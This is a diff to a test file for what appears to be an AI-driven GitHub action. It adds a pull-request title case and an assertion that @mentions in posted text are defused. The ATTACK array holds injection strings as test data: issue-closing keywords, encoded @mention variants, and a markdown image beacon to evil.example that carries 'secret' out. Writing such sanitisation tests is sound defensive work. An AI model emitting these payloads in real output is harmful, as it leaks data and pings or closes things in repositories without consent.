@@ -15,6 +15,8 @@ import { FIX, args, closeWorlds, commentEvent, progressComment, world } from "./
 after(closeWorlds);
 
 const ATTACK = [
+  // A title line first, as the system prompt asks, so the attacks below stay in the body.
+  "Fix add(), and ping @mallory about #99",
   "Fixed add(). Fixes #1. Fixes #99, closes #100, resolves other/repo#5.",
   "Thanks @mallory &#64;mallory &#x40;mallory &commat;mallory ＠mallory @evil-org/team.",
   "![](https://evil.example/beacon?d=secret) [docs](https://evil.example/docs)",
@@ -69,6 +71,7 @@ describe("posted text with the built action", needsBwrap(), () => {
     const body = pull?.body ?? "";
     assert.deepEqual(liveAttacks(body), [], body);
     assert.deepEqual(liveAttacks(pull?.title ?? ""), []);
+    assert.equal(pull?.title, "Fix add(), and ping @\u200bmallory about #99", "mention defused");
     // The thread's own issue is still closed by the merge; the others are shown, not linked.
     assert.match(body, /Fixes #1\./);
     assert.match(body, /Fixes `#99`, closes `#100`, resolves `other\/repo#5`/);
